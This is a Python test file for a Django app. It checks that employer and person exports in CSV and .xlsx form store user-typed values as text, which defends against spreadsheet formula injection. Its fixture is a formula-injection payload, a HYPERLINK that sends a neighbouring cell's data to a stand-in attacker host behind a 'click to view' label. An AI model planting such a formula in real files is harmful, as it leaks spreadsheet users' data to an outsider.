"""A value someone typed that a spreadsheet would run (formula injection, ASVS 4.0 V5.3): the
exports hand it over as text, in CSV and in .xlsx, so opening an export runs nothing."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.employers.factories import EmployerFactory
from tests.helpers import signed_in
from tests.registry.factories import PersonFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"点击查看")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_a_typed_formula_is_exported_as_text_in_csv(demo_data):
    EmployerFactory(name=FORMULA)
    PersonFactory(name=FORMULA)
    client = signed_in(demo_data["rencheng_counsellor"])
    for url in ("/employers/export.csv", "/persons/export.csv"):
        names = [row[0] for row in _rows(client.post(url, {"q": FORMULA[:6]}))[1:]]
        # a leading apostrophe: spreadsheets show the cell as text and do not evaluate it
        assert names == [f"'{FORMULA}"], url


def test_a_typed_formula_is_a_text_cell_in_xlsx(demo_data):
    PersonFactory(name=FORMULA)
    response = signed_in(demo_data["rencheng_counsellor"]).post(
        "/persons/export.csv", {"format": "xlsx", "q": FORMULA[:6]}
    )
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value.endswith(FORMULA)
